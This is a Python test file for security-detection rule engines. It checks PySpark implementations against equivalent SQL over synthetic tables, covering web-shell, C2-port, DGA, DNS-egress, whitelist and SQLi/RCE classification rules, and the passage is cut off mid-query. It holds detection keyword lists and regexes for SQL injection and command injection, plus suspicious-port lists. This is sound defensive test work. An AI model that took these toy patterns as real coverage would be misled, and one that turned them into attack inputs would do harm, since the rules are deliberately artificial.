"""Rule engines on the driver tables."""
from __future__ import annotations

from pyspark.sql import functions as F

from ..functions.argv import split_argv
from ..functions.shell import command_parts
from ..operators import commands as C, predicates as Q, rules as R
from .base import EV, evidence, table
from .predicates import FP, ITEMS, items

TEXT_PACK = {"web_listeners": ["nginx"], "empty_listener_is_web": False, "shell_names": ["sh"], "shell_paths": [], "structural": {"id": "web_shell", "severity": "P0"},
             "p0_regex": [("names_the", "command", r"\bthe the\b")], "p1_regex": [("numbers", "command", r"[0-9]{4}")], "p1_keywords": [("accents", "command", "é"), ("numbers", "command", "http")],
             "p1_keyword_regex": [("qu_word", "command", r"(^| )qu[a-z]")], "fallback": {"plain": ["and"], "severity": "P2", "elevations": [{"id": "and_of", "severity": "P1", "pattern": r"and .*of"}]},
             "noise": [("noise", "command", "s")], "boost": {"web_ports": [80], "cwd": ["/tmp"], "text": ["ing "]}, "tags": {"numbers": ["num", "odd"], "accents": ["lang", "odd"], "web_shell": ["web"]}}


def r01(spark, d):
    t = table(spark, d, "documents").select(
        "doc_id", F.col("text").alias("command"), F.expr("IF(doc_id % 6 = 0, 'nginx', 'java')").alias("listener_process"), F.expr("IF(doc_id % 4 = 0, 'sh', 'x')").alias("comm"), F.lit("").alias("exe"),
        F.expr("IF(doc_id % 5 = 0, 80, 22)").alias("listener_port"), (F.col("doc_id") % 7).alias("listener_pid"), (F.col("doc_id") % 3).alias("ppid"), F.expr("IF(doc_id % 11 = 0, '/tmp/a', '/')").alias("cwd"))
    out = R.exec_rules(t, TEXT_PACK, has_connect=F.col("doc_id") % 13 == 0)
    return out.select("doc_id", "severity", F.array_join("matched_rules", ",").alias("rules"), F.array_join("risk_tags", ",").alias("tags"))


R01_SQL = r"""WITH t AS (SELECT doc_id, text, lower(text) AS l, doc_id % 6 = 0 AS web, doc_id % 12 = 0 AS st FROM documents),
m AS (SELECT *, regexp_matches(text, '\bthe the\b') AS p0, regexp_matches(text, '[0-9]{4}') AS a, contains(l, 'é') AS b, contains(l, 'http') AS c, regexp_matches(l, '(^| )qu[a-z]') AS q,
  regexp_matches(l, '\band\b') AS pl, regexp_matches(text, 'and .*of') AS el, contains(l, 's') AS nz FROM t),
n AS (SELECT *, NOT (st OR p0 OR a OR b OR c OR q) AS nothing FROM m),
k AS (SELECT *, CASE WHEN st OR p0 THEN 0 WHEN NOT nothing THEN 1 WHEN pl AND el THEN 1 WHEN pl THEN 2 ELSE 3 END AS r0,
  concat_ws(',', CASE WHEN st THEN 'web_shell' END, CASE WHEN p0 THEN 'names_the' END, CASE WHEN a THEN 'numbers' END, CASE WHEN b THEN 'accents' END, CASE WHEN c AND NOT a THEN 'numbers' END, CASE WHEN q THEN 'qu_word' END,
    CASE WHEN nothing AND pl AND el THEN 'and_of' END, CASE WHEN nothing AND NOT pl AND nz THEN 'noise' END) AS rules FROM n),
s1 AS (SELECT *, CASE WHEN doc_id % 5 = 0 AND r0 > 0 THEN r0 - 1 ELSE r0 END AS r1 FROM k),
s2 AS (SELECT *, CASE WHEN doc_id % 7 = doc_id % 3 AND r1 > 1 THEN r1 - 1 ELSE r1 END AS r2 FROM s1),
s3 AS (SELECT *, CASE WHEN doc_id % 11 = 0 AND r2 > 1 THEN r2 - 1 ELSE r2 END AS r3 FROM s2),
s4 AS (SELECT *, CASE WHEN contains(text, 'ing ') AND r3 > 1 THEN r3 - 1 ELSE r3 END AS r4 FROM s3),
s5 AS (SELECT *, CASE WHEN doc_id % 13 = 0 AND r4 > 0 THEN r4 - 1 ELSE r4 END AS r5 FROM s4)
SELECT doc_id, 'P' || r5 AS severity, rules, concat_ws(',', CASE WHEN st THEN 'web' END, CASE WHEN a THEN 'num,odd' END, CASE WHEN b AND NOT a THEN 'lang,odd' END, CASE WHEN b AND a THEN 'lang' END,
  CASE WHEN c AND NOT a AND b THEN 'num' END, CASE WHEN c AND NOT a AND NOT b THEN 'num,odd' END, CASE WHEN web AND r5 < 3 THEN 'web_process_abuse' END) AS tags FROM s5"""

PORTS = "element_at(array(4444, 3306, 443, 22, 1337, 53), cast(k % 6 AS int) + 1)"


def r02(spark, d):
    e = evidence(spark, d).select("event_id", F.expr("IF(k % 2 = 0, '10.1.2.3', '8.8.8.8')").alias("dst_ip"), F.expr(PORTS).alias("dst_port"), F.expr("IF(user_id % 3 = 0, 443, 22)").alias("listener_port"),
                                  F.expr("IF(user_id % 5 = 0, 'PHP-FPM', 'x')").alias("listener_process"), (F.col("event_type") == "click").alias("dl"))
    out = R.connect_rules(e, download_nearby=F.col("dl"))
    return out.select("event_id", "severity", F.array_join("matched_rules", ",").alias("rules"), F.array_join("risk_tags", ",").alias("tags"))


R02_SQL = f"""WITH {EV}, f AS (SELECT event_id, k % 2 = 0 AS priv, [4444, 3306, 443, 22, 1337, 53][k % 6 + 1] AS port, user_id % 3 = 0 OR user_id % 5 = 0 AS web, event_type = 'click' AS dl FROM ev),
g AS (SELECT *, port IN (4444, 1337) AS susp, port IN (3306, 443, 53) AS svc FROM f),
h AS (SELECT *, web AND NOT priv AS c2, web AND priv AND susp AS sp0 FROM g),
i AS (SELECT *, susp AND NOT c2 AND NOT sp0 AS sp1 FROM h), j AS (SELECT *, dl AND NOT c2 AND NOT sp0 AS eg FROM i),
k AS (SELECT *, NOT (c2 OR sp0 OR sp1 OR eg) AS nil FROM j)
SELECT event_id, CASE WHEN c2 OR sp0 THEN 'P0' WHEN sp1 OR eg THEN 'P1' WHEN nil AND NOT priv THEN 'P2' ELSE 'P3' END AS severity,
 concat_ws(',', CASE WHEN c2 THEN 'external_c2_connect' END, CASE WHEN sp0 OR sp1 THEN 'suspicious_port_connect' END, CASE WHEN eg THEN 'exec_correlated_egress' END,
   CASE WHEN nil AND priv AND svc THEN 'business_whitelist_connect' END, CASE WHEN nil AND NOT priv THEN 'non_whitelist_egress' END) AS rules,
 concat_ws(',', CASE WHEN c2 THEN 'command_and_control,active_connect' END, CASE WHEN (sp0 OR sp1) AND NOT c2 THEN 'command_and_control' END, CASE WHEN eg THEN 'network_activity,active_connect' END,
   CASE WHEN nil AND priv AND svc THEN 'noise' END, CASE WHEN nil AND NOT priv THEN 'network_activity' END) AS tags FROM k"""

PERSIST = {"rules": [{"id": "src_low", "severity": "P2", "when": {"field_regex": {"field": "path", "pattern": "src[0-3]$"}}}, {"id": "new_unit", "severity": "P1", "when": {"all": [{"event_type": ["created"]}, {"not": {"user": "root"}}]}}],
           "message_rules": [{"id": "talks_the", "severity": "P0", "pattern": r"the .*ing", "event_types": ["created", "modified"]}, {"id": "src_low", "severity": "P3", "pattern": "zzz"}],
           "tags": {"src_low": ["persistence"], "new_unit": ["persistence", "new"]}}


def r03(spark, d):
    t = table(spark, d, "documents").select("doc_id", F.col("text").alias("message"), F.concat(F.lit("/p/"), F.col("source")).alias("path"), F.expr("element_at(array('created', 'modified', 'deleted'), cast(doc_id % 3 AS int) + 1)").alias("event_type"),
                                            F.expr("IF(doc_id % 2 = 0, 'root', 'u')").alias("user"))
    out = R.condition_rules(t, PERSIST, text_fields=("message",))
    return out.select("doc_id", "severity", F.array_join("matched_rules", ",").alias("rules"), F.array_join("risk_tags", ",").alias("tags"))


R03_SQL = r"""WITH t AS (SELECT doc_id, regexp_matches(source, 'src[0-3]$') AS a, doc_id % 3 = 0 AND doc_id % 2 = 1 AS b, regexp_matches(text, '(?i)the .*ing') AND doc_id % 3 < 2 AS c, contains(lower(text), 'zzz') AS z FROM documents)
SELECT doc_id, CASE WHEN c THEN 'P0' WHEN b THEN 'P1' WHEN a THEN 'P2' ELSE 'P3' END AS severity, concat_ws(',', CASE WHEN a THEN 'src_low' END, CASE WHEN b THEN 'new_unit' END, CASE WHEN c THEN 'talks_the' END, CASE WHEN z AND NOT a THEN 'src_low' END) AS rules,
 concat_ws(',', CASE WHEN a OR b OR z THEN 'persistence' END, CASE WHEN b THEN 'new' END) AS tags FROM t WHERE a OR b OR c OR z"""


def r04(spark, d):
    e = evidence(spark, d).select("event_id", "event_type", F.expr("IF(k % 3 = 0, 'high', 'low')").alias("risk_level"), F.concat(F.lit("msg "), F.col("k").cast("string")).alias("message"), F.expr("IF(user_id % 4 = 0, 'sshd', 'cron')").alias("program"))
    pack = {"rules": [{"id": "err_high", "severity": "P1", "when": {"all": [{"event_type": "error"}, {"risk_level_in": ["HIGH"]}]}}, {"id": "sshd", "severity": "P2", "when": {"program_in": ["sshd"]}}],
            "message_rules": [{"id": "nines", "severity": "P0", "pattern": "99?$"}]}
    out = R.condition_rules(e, pack, exclude_event_types=["view"], text_fields=("message",))
    return out.select("event_id", "severity", F.array_join("matched_rules", ",").alias("rules"))


R04_SQL = f"""WITH {EV}, t AS (SELECT event_id, event_type = 'error' AND k % 3 = 0 AS a, user_id % 4 = 0 AS b, k % 10 = 9 AS c FROM ev WHERE event_type <> 'view')
SELECT event_id, CASE WHEN c THEN 'P0' WHEN a THEN 'P1' ELSE 'P2' END AS severity, concat_ws(',', CASE WHEN a THEN 'err_high' END, CASE WHEN b THEN 'sshd' END, CASE WHEN c THEN 'nines' END) AS rules FROM t WHERE a OR b OR c"""


def r05(spark, d):
    from ..operators.rollups import nxdomain_rollup

    e = evidence(spark, d)
    q = F.expr("concat(CASE k % 3 WHEN 0 THEN substr(sha2(cast(event_id AS string), 256), 1, 24) ELSE 'www' END, '.site', user_id, CASE k % 5 WHEN 0 THEN '.xyz' WHEN 1 THEN '.corp' ELSE '.com' END)")
    dns = e.where("event_type = 'view'").select("event_id", "us", "host", q.alias("query"), F.expr("IF(k % 4 = 0, 'TXT', 'A')").alias("query_type"))
    rows = R.dns_row_rules(dns).select(F.concat(F.lit("q"), F.col("event_id").cast("string")).alias("item"), "severity", F.array_join("matched_rules", ",").alias("rules"))
    con = e.where("event_type = 'click'").select("event_id", F.expr("IF(user_id % 2 = 0, '8.8.8.8', '8.8.8.7')").alias("dst_ip"), F.expr("CASE k % 3 WHEN 0 THEN 853 WHEN 1 THEN 443 ELSE 80 END").alias("dst_port"))
    priv = R.dns_privacy_rules(con).select(F.concat(F.lit("c"), F.col("event_id").cast("string")).alias("item"), "severity", F.array_join("matched_rules", ",").alias("rules"))
    nx = nxdomain_rollup(e.where("event_type = 'error'").select("event_id", "us", F.col("host").alias("client_ip"), F.col("k").cast("string").alias("query")), tiers=((12, "P1"), (8, "P2")))
    burst = nx.where("severity <> 'P3'").select(F.concat(F.lit("n"), F.col("client_ip")).alias("item"), "severity", F.lit("high_nxdomain_burst").alias("rules"))
    return rows.unionByName(priv).unionByName(burst)


R05_SQL = rf"""WITH {EV}, q AS (SELECT event_id, k, CASE k % 3 WHEN 0 THEN substring(sha256(event_id::VARCHAR), 1, 24) END AS h, 'site' || user_id AS s FROM ev WHERE event_type = 'view'),
c AS (SELECT event_id, k, h, CASE WHEN h IS NULL OR length(h) < length(s) THEN s ELSE h END AS cand FROM q),
ch AS (SELECT event_id, x, count(*) AS m FROM (SELECT event_id, unnest(string_split(cand, '')) AS x FROM c) GROUP BY ALL),
en AS (SELECT event_id, -sum(m / t * log2(m / t)) AS e FROM (SELECT *, sum(m) OVER (PARTITION BY event_id) AS t FROM ch) GROUP BY event_id),
f AS (SELECT c.event_id, k % 5 <> 1 AND length(cand) >= 16 AND (e >= 3.6 OR length(regexp_replace(cand, '[^0-9]', '', 'g')) / length(cand) >= 0.25) AS dga, k % 5 = 0 AS tld FROM c JOIN en USING (event_id))
SELECT 'q' || event_id AS item, CASE WHEN dga THEN 'P1' ELSE 'P2' END AS severity, concat_ws(',', CASE WHEN dga THEN 'suspected_dga_domain' END, CASE WHEN tld THEN 'uncommon_tld_query' END) AS rules FROM f WHERE dga OR tld
UNION ALL SELECT 'c' || event_id, 'P2', CASE WHEN k % 3 = 0 THEN 'dot_egress' ELSE 'doh_egress' END FROM ev WHERE event_type = 'click' AND (k % 3 = 0 OR (k % 3 = 1 AND user_id % 2 = 0))
UNION ALL SELECT 'n' || host, CASE WHEN count(*) >= 12 THEN 'P1' ELSE 'P2' END, 'high_nxdomain_burst' FROM ev WHERE event_type = 'error' GROUP BY host HAVING count(*) >= 8"""

POLICY = {"predicates": {"low_host": {"field_regex": {"field": "host", "pattern": "-[0-9]$"}}}, "rules": [
    {"id": "HG-PERSIST", "id_template": "HG-{matched_rule}", "tier": "hard_guardrail", "when": {"type": "guardrail_matched", "matched_rules_any": ["persistence_modify"]},
     "decision": {"severity": "P1", "alert_required": True, "verdict": "confirmed_attack"}, "unless": [{"predicate": "low_host"}]},
    {"id": "FORCE-A", "tier": "force_alert", "when": {"all": [{"matched_rules_any": ["reverse_shell"]}, {"severity_in": ["P2", "P3"]}]},
     "decision": {"severity": "P2", "severity_when": [{"when": {"risk_module": "exec"}, "severity": "P0"}], "alert_required": True, "inherit_verdict": True, "recommended_action": "isolate"}},
    {"id": "FORCE-B", "tier": "force_alert", "modules": ["connect"], "when": {"listener_port_in": [20, 40, 60]}, "decision": {"severity": "P1", "alert_required": True}},
    {"id": "DOWN-1", "tier": "downgrade", "when": {"risk_module": "ssh"}, "decision": {"severity": "P3", "inherit_recommended_action": True}},
    {"id": "DOWN-2", "tier": "downgrade", "when": {"all": [{"matched_rules_any": ["noise_command"]}, {"risk_module": ["ssh", "exec"]}]}, "decision": {"severity": "P3", "alert_suppressed": True, "verdict": "benign"}},
    {"id": "OFF", "tier": "force_alert", "enabled": False, "when": {}, "decision": {"severity": "P0"}}]}
POL = f"""{ITEMS}, pf AS (SELECT *, n % 5 = 0 AND NOT regexp_matches(host, '-[0-9]$') AS hard, n % 2 = 0 AND severity IN ('P2', 'P3') AS fa, risk_module = 'connect' AND listener_port IN (20, 40, 60) AS fb,
   risk_module = 'ssh' AS d1, n % 3 = 0 AND risk_module IN ('ssh', 'exec') AS d2 FROM it),
pw AS (SELECT *, CASE WHEN fa AND fb AND risk_module <> 'exec' THEN 'FORCE-B' WHEN fa THEN 'FORCE-A' WHEN fb THEN 'FORCE-B' WHEN d2 AND NOT hard THEN 'DOWN-2' WHEN d1 AND NOT hard THEN 'DOWN-1' WHEN hard THEN 'HG-PERSISTENCE_MODIFY'
   WHEN severity IN ('P0', 'P1') THEN 'DEFAULT-ALERT' WHEN severity = 'P2' THEN 'DEFAULT-OBSERVE' ELSE 'DEFAULT-LOG' END AS rule FROM pf),
po AS (SELECT *, CASE WHEN rule LIKE 'FORCE%' THEN 'force_alert' WHEN rule LIKE 'DOWN%' THEN 'downgrade' WHEN rule LIKE 'HG%' THEN 'hard_guardrail' ELSE 'default' END AS tier,
   CASE WHEN rule = 'FORCE-A' AND risk_module = 'exec' THEN 'P0' WHEN rule = 'FORCE-A' THEN 'P2' WHEN rule IN ('FORCE-B', 'HG-PERSISTENCE_MODIFY') THEN 'P1' WHEN rule LIKE 'DOWN%' THEN 'P3' WHEN rule = 'DEFAULT-ALERT' THEN severity WHEN rule = 'DEFAULT-OBSERVE' THEN 'P2' ELSE 'P3' END AS sev2,
   rule LIKE 'FORCE%' OR rule LIKE 'HG%' OR rule = 'DEFAULT-ALERT' AS req, rule = 'DOWN-2' AS sup,
   CASE WHEN rule LIKE 'HG%' THEN 'confirmed_attack' WHEN rule = 'DOWN-2' THEN 'benign' ELSE 'suspicious' END AS verd, CASE WHEN rule = 'FORCE-A' THEN 'isolate' ELSE 'observe' END AS act FROM pw)"""


def r06(spark, d):
    out = R.behavior_policy(items(spark, d), POLICY)
    return out.select("o_orderkey", "policy_rule_id", "policy_tier", "severity", "verdict", "recommended_action", "alert_required", "alert_suppressed", F.col("original_risk.severity").alias("severity_before"))


R06_SQL = f"""WITH {POL} SELECT o_orderkey, rule AS policy_rule_id, tier AS policy_tier, sev2 AS severity, verd AS verdict, act AS recommended_action, req AS alert_required, sup AS alert_suppressed, severity AS severity_before FROM po"""
WHITE = [{"id": "w-off", "enabled": False, "scope": {}}, {"id": "w-scan", "action": "suppress", "scope": {"risk_modules": ["connect"], "dst_cidrs": ["10.0.0.0/13"], "severity_at_or_above": "P2"}, "target_confidence": 0.1},
         {"id": "w-port", "scope": {"listener_ports": [1, 2, 3, 4, 5, 6, 7, 8, 9], "exclude_matched_rules_any": ["persistence_modify"]}, "target_severity": "P2"},
         {"id": "w-cmd", "scope": {"command_regex": "urgent", "matched_rules_any": ["noise_command"]}, "target_severity": "P1", "target_confidence": 0.3}]


def r07(spark, d):
    out = R.whitelist(R.behavior_policy(items(spark, d), POLICY), WHITE)
    return out.select("o_orderkey", "whitelist_rule_id", "severity", "verdict", "recommended_action", "alert_required", "alert_suppressed", "confidence", F.array_join("matched_rules", ",").alias("rules"))


R07_SQL = f"""WITH {POL}, w AS (SELECT *, CASE WHEN tier IN ('hard_guardrail', 'force_alert') THEN NULL WHEN risk_module = 'connect' AND n % 20 < 8 AND sev2 IN ('P0', 'P1', 'P2') THEN 'w-scan'
  WHEN listener_port BETWEEN 1 AND 9 AND n % 5 <> 0 THEN 'w-port' WHEN regexp_matches(command, '(?i)urgent') AND n % 3 = 0 THEN 'w-cmd' END AS wl FROM po),
x AS (SELECT *, CASE wl WHEN 'w-scan' THEN 'P3' WHEN 'w-port' THEN 'P2' WHEN 'w-cmd' THEN 'P1' ELSE sev2 END AS s FROM w)
SELECT o_orderkey, wl AS whitelist_rule_id, s AS severity, CASE WHEN wl = 'w-scan' THEN 'benign' ELSE verd END AS verdict, CASE wl WHEN 'w-scan' THEN 'log_only' WHEN 'w-port' THEN 'observe' ELSE act END AS recommended_action,
 CASE WHEN wl IS NULL THEN req ELSE req AND NOT sup AND s IN ('P0', 'P1') AND wl <> 'w-scan' END AS alert_required, sup OR coalesce(wl = 'w-scan', false) AS alert_suppressed,
 CASE wl WHEN 'w-scan' THEN 0.1 WHEN 'w-cmd' THEN 0.3 ELSE 0.6 END::DOUBLE AS confidence, concat_ws(',', CASE WHEN n % 2 = 0 THEN 'reverse_shell' END, CASE WHEN n % 3 = 0 THEN 'noise_command' END, CASE WHEN n % 5 = 0 THEN 'persistence_modify' END, 'whitelist:' || wl) AS rules FROM x"""
EVENT_POLICY = {"mode": "enforce", "enabled": True, "rules": [
    {"id": "b-sup", "action": "suppress", "priority": 5, "scope": {"event_types": ["view", "click"]}, "when": {"field": "k", "op": "gt", "value": 40}},
    {"id": "a-sup", "action": "suppress", "priority": 5, "scope": {"event_types": ["click"]}, "allow_protected": True, "when": {"field": "k", "op": "gt", "value": 60}},
    {"id": "keep-err", "action": "keep", "scope": {"event_types": ["error", "view"]}, "when": {"field": "host", "op": "suffix", "value": "3"}},
    {"id": "alert-observe", "action": "alert", "mode": "observe", "when": {"field": "value", "op": "gte", "value": 60}},
    {"id": "later", "action": "alert", "from": "2024-01-20T00:00:00Z", "when": {"field": "event_type", "op": "eq", "value": "purchase"}}]}


def event_decisions(e):
    """Shared with the stream check."""
    e = e.withColumns({"protected": F.col("user_id") % 4 == 0, "backfill": F.col("user_id") % 11 == 0})
    return R.event_decision(e, EVENT_POLICY, F.timestamp_micros(F.col("us"))).select("event_id", "action", "rule_id", "predicted_rule_id", "reason")


def r08(spark, d):
    return event_decisions(evidence(spark, d))


R08_SQL = f"""WITH {EV}, m AS (SELECT *, event_type IN ('view', 'click') AND k > 40 AS b, event_type = 'click' AND k > 60 AS a, event_type IN ('error', 'view') AND host LIKE '%3' AS ke, coalesce(value >= 60, false) AS al,
  event_type = 'purchase' AND us >= 1705708800000000 AS la FROM ev),
s AS (SELECT *, CASE WHEN al THEN 'alert-observe' WHEN la THEN 'later' WHEN ke THEN 'keep-err' WHEN a THEN 'a-sup' WHEN b THEN 'b-sup' END AS pr, CASE WHEN la THEN 'later' WHEN ke THEN 'keep-err' WHEN a THEN 'a-sup' WHEN b THEN 'b-sup' END AS se FROM m)
SELECT event_id, CASE WHEN user_id % 11 = 0 OR se IS NULL THEN 'pass' WHEN se = 'later' THEN 'alert' WHEN se = 'keep-err' THEN 'keep' WHEN se = 'b-sup' AND user_id % 4 = 0 THEN 'keep' ELSE 'suppress' END AS action,
 CASE WHEN user_id % 11 > 0 THEN se END AS rule_id, CASE WHEN user_id % 11 > 0 THEN pr END AS predicted_rule_id,
 CASE WHEN user_id % 11 = 0 THEN 'history_preserved' WHEN se = 'b-sup' AND user_id % 4 = 0 THEN 'protected_event' WHEN se IS NOT NULL THEN 'matched' WHEN pr IS NOT NULL THEN 'observe' ELSE 'unmatched' END AS reason FROM s"""
TYPES = {"sqli": {"patterns": ["the the", "union", "--"], "hints": ["src2"]}, "rce": {"patterns": [";", "|", "ing of"], "hints": []}, "scanner_fingerprint": {"patterns": ["http"], "hints": ["src5"]}}


def alerts(spark, d):
    t = table(spark, d, "documents").select("doc_id", F.expr("IF(doc_id % 4 = 0, '', text)").alias("payload"), F.col("source").alias("rule_name"), F.col("text"), F.concat(F.lit("/x/"), F.col("lang")).alias("url"), F.expr("IF(doc_id % 3 = 0, 'Block', 'pass')").alias("action"))
    t = t.withColumn("a", R.attack_type(F.col("payload"), F.col("rule_name"), TYPES)).select("*", "a.attack_type", "a.matched").drop("a")
    return R.layer1_verdict(t, Q.false_positive_reason(t, {**FP, "whitelist_url_fragments": []}), ["src3"])


def _cnt(text, ps):
    return " + ".join(f"(contains({text}, '{p}'))::INT" for p in ps)


ALERTS = f"""p AS (SELECT doc_id, source, CASE WHEN doc_id % 4 = 0 THEN '' ELSE text END AS payload, text, doc_id % 3 = 0 AS blk FROM documents),
h AS (SELECT *, lower(payload) AS l, {_cnt('lower(payload)', TYPES['sqli']['patterns'])} AS n1, {_cnt('lower(payload)', TYPES['rce']['patterns'])} AS n2, contains(lower(payload), 'http')::INT AS n3, contains(source, 'src2') AS g1, contains(source, 'src5') AS g3 FROM p),
k1 AS (SELECT *, CASE WHEN n1 > 0 OR g1 THEN 'sqli' ELSE 'unknown' END AS t1, CASE WHEN n1 > 0 THEN n1 WHEN g1 THEN 1 ELSE 0 END AS m1 FROM h),
k2 AS (SELECT *, CASE WHEN n2 > 0 AND n2 >= m1 THEN 'rce' ELSE t1 END AS t2, CASE WHEN n2 > 0 AND n2 >= m1 THEN n2 ELSE m1 END AS m2 FROM k1),
k3 AS (SELECT *, CASE WHEN (n3 > 0 OR g3) AND (n3 >= m2 OR (g3 AND m2 = 0)) THEN 'scanner_fingerprint' ELSE t2 END AS kind, CASE WHEN (n3 > 0 OR g3) AND (n3 >= m2 OR (g3 AND m2 = 0)) THEN greatest(n3, 1) ELSE m2 END AS nm FROM k2),
v0 AS (SELECT *, trim(payload) <> '' AND ((contains(payload, 'the') AND contains(payload, 'and') AND NOT (contains(l, ' or ') OR contains(l, 'union') OR contains(l, '<script')))
   OR (regexp_matches(payload, '[0-9]{{3}}') AND NOT (contains(l, ' or ') OR contains(l, 'union') OR contains(l, ';') OR contains(l, '|')))) AS fp, regexp_matches(lower(text), 'union|script| or |system\\(') AS ex FROM k3),
v1 AS (SELECT *, CASE WHEN fp THEN 'false_positive' WHEN trim(payload) = '' AND nm = 0 AND contains(source, 'src3') THEN 'scanning_or_probe' WHEN trim(payload) = '' AND nm = 0 THEN 'suspicious' WHEN kind = 'scanner_fingerprint' AND NOT ex THEN 'scanning_or_probe'
   WHEN nm > 0 THEN 'confirmed_attack' WHEN trim(payload) <> '' THEN 'suspicious' ELSE 'scanning_or_probe' END AS verdict,
   CASE WHEN fp THEN 'invalid' WHEN trim(payload) = '' AND nm = 0 THEN 'insufficient' WHEN kind = 'scanner_fingerprint' AND NOT ex THEN 'probe' WHEN nm > 0 THEN 'valid' WHEN trim(payload) <> '' THEN 'unclear' ELSE 'insufficient' END AS validity FROM v0)"""


def r09(spark, d):
    a = alerts(spark, d)
    up = R.upgrade_verdict(a, F.col("doc_id") % 17 == 0, (F.col("doc_id") % 5 == 0).cast("int"))
    return up.select("doc_id", "attack_type", F.size("matched").cast("bigint").alias("hits"), "alert_verdict", "payload_validity", "upgrade_reason")


R09_SQL = f"""WITH {ALERTS} SELECT doc_id, kind AS attack_type, nm::BIGINT AS hits, CASE WHEN verdict IN ('scanning_or_probe', 'suspicious') AND (doc_id % 17 = 0 OR doc_id % 5 = 0) THEN 'confirmed_attack' ELSE verdict END AS alert_verdict,
 validity AS payload_validity, CASE WHEN verdict IN ('scanning_or_probe', 'suspicious') THEN CASE WHEN doc_id % 17 = 0 THEN 'd2_success_confirmed' WHEN doc_id % 5 = 0 THEN 'gateway_miss_critical' END END AS upgrade_reason FROM v1"""


def r10(spark, d):
    a = R.layer2_outcome(alerts(spark, d), F.col("doc_id") % 17 == 0, F.col("doc_id") % 2 == 0)
    a = R.alert_action(R.alert_confidence(a, F.lit(0.8)), F.col("doc_id") % 6, F.expr("CASE doc_id % 7 WHEN 0 THEN 'likely' WHEN 1 THEN 'possible' END"))
    return a.select("doc_id", "alert_verdict", "attack_outcome", "confidence", "recommended_action")


OUTCOME = """o AS (SELECT *, CASE WHEN verdict = 'false_positive' THEN 'not_applicable' WHEN doc_id % 17 = 0 THEN 'success_confirmed' WHEN blk AND verdict = 'confirmed_attack' THEN 'blocked' WHEN doc_id % 2 = 0 THEN 'attempt_failed' ELSE 'success_unknown' END AS outcome,
  CASE verdict WHEN 'confirmed_attack' THEN 0.88 WHEN 'false_positive' THEN 0.82 WHEN 'suspicious' THEN 0.58 ELSE 0.7 END::DOUBLE AS base, doc_id % 6 AS rep, CASE doc_id % 7 WHEN 0 THEN 'likely' WHEN 1 THEN 'possible' END AS hint FROM v1),
c AS (SELECT *, CASE outcome WHEN 'success_confirmed' THEN least(0.95, base + 0.08) WHEN 'success_unknown' THEN least(base, 0.68) WHEN 'blocked' THEN least(0.88, base + 0.02) ELSE base END AS b2, CASE WHEN outcome = 'success_confirmed' THEN 0.88 ELSE 0.8 END AS top,
  CASE WHEN verdict = 'false_positive' THEN 'close_as_fp' WHEN outcome = 'success_confirmed' THEN 'escalate_investigate' WHEN verdict = 'confirmed_attack' AND rep >= 3 THEN 'block_ip' WHEN verdict = 'confirmed_attack' AND outcome = 'blocked' AND hint = 'likely' THEN 'manual_review_30m'
   WHEN verdict = 'confirmed_attack' AND outcome = 'blocked' THEN 'log_and_monitor' WHEN verdict = 'scanning_or_probe' THEN 'log_only' WHEN verdict = 'suspicious' THEN CASE WHEN hint = 'possible' THEN 'log_and_monitor' ELSE 'manual_review_30m' END WHEN hint = 'likely' THEN 'manual_review_30m' ELSE 'log_and_monitor' END AS act FROM o)"""
R10_SQL = f"WITH {ALERTS}, {OUTCOME} SELECT doc_id, verdict AS alert_verdict, outcome AS attack_outcome, round(least(b2, top), 2)::DOUBLE AS confidence, act AS recommended_action FROM c"


def r11(spark, d):
    o = table(spark, d, "lineitem").select("l_orderkey", "l_linenumber", F.col("l_suppkey").cast("string").alias("src_ip"), F.expr("IF(l_returnflag = 'R', 'block_ip', 'observe')").alias("recommended_action"))
    p = table(spark, d, "supplier").where("s_suppkey % 7 > 0").select(F.col("s_suppkey").cast("string").alias("ip"), F.expr("IF(s_nationkey % 5 = 0, 'private', 'global')").alias("scope"), (F.when(F.col("s_nationkey") % 5 == 1, True)).alias("mobile"), F.lit(None).cast("boolean").alias("proxy"),
                                                                    F.expr("IF(s_nationkey % 5 = 2, 'Big CDN', s_name)").alias("description"), (F.col("s_acctbal") > 0).alias("verified"), F.expr("IF(s_suppkey % 2 = 0, 'success', 'failed')").alias("online_status"),
                                                                    F.expr("IF(s_suppkey % 3 = 0, false, NULL)").alias("tor"), F.expr("IF(s_suppkey % 11 = 0, array('云防护 node'), array('x'))").alias("tags"))
    return R.ip_block_guard(o, p).select("l_orderkey", F.col("l_linenumber").cast("bigint").alias("l_linenumber"), "recommended_action", "block_reason")


R11_SQL = """SELECT l_orderkey, l_linenumber::BIGINT AS l_linenumber, CASE WHEN l_returnflag <> 'R' THEN 'observe' WHEN s.s_suppkey IS NOT NULL AND s_nationkey % 5 > 2 AND s_suppkey % 11 > 0 AND (s_acctbal > 0 OR s_suppkey % 6 = 0) THEN 'block_ip' ELSE 'manual_review_30m' END AS recommended_action,
 CASE WHEN l_returnflag = 'R' THEN CASE WHEN s.s_suppkey IS NULL THEN 'ip_profile_missing' WHEN s_nationkey % 5 <= 2 OR s_suppkey % 11 = 0 THEN 'shared_or_nat_exit_risk' WHEN NOT s_acctbal > 0 AND s_suppkey % 6 > 0 THEN CASE WHEN s_suppkey % 2 = 0 THEN 'ip_nat_fields_missing' ELSE 'ip_profile_not_verified' END ELSE 'no_shared_exit_indicator' END END AS block_reason
FROM lineitem LEFT JOIN (SELECT * FROM supplier WHERE s_suppkey % 7 > 0) s ON s.s_suppkey = l_suppkey"""
RULE_MAP = {"ECONOMY": ["T1", "T2"], "red": ["T2", "T3"], "STANDARD": ["T4"], "blue": ["T1"]}


def r12(spark, d):
    p = table(spark, d, "part").select("p_partkey", F.array("p_type", F.split("p_name", " ")[0]).alias("matched_rules"), F.col("p_brand").alias("policy_rule_id"))
    out = R.attack_techniques(p, RULE_MAP, {"Brand#17": ["T9", "T1"]}, {"T1": "TA1", "T2": "TA2", "T3": "TA1", "T9": "TA3"})
    return out.select("p_partkey", F.array_join("technique_ids", ",").alias("techniques"), F.array_join("tactic_ids", ",").alias("tactics"))


R12_SQL = """WITH m(k, t, pos) AS (VALUES ('ECONOMY', 'T1', 1), ('ECONOMY', 'T2', 2), ('red', 'T2', 1), ('red', 'T3', 2), ('STANDARD', 'T4', 1), ('blue', 'T1', 1), ('Brand#17', 'T9', 1), ('Brand#17', 'T1', 2)),
x AS (SELECT p_partkey, t, min(ord * 10 + pos) AS o FROM (SELECT p_partkey, p_type AS k, 1 AS ord FROM part UNION ALL SELECT p_partkey, split_part(p_name, ' ', 1), 2 FROM part UNION ALL SELECT p_partkey, p_brand, 3 FROM part) JOIN m USING (k) GROUP BY ALL),
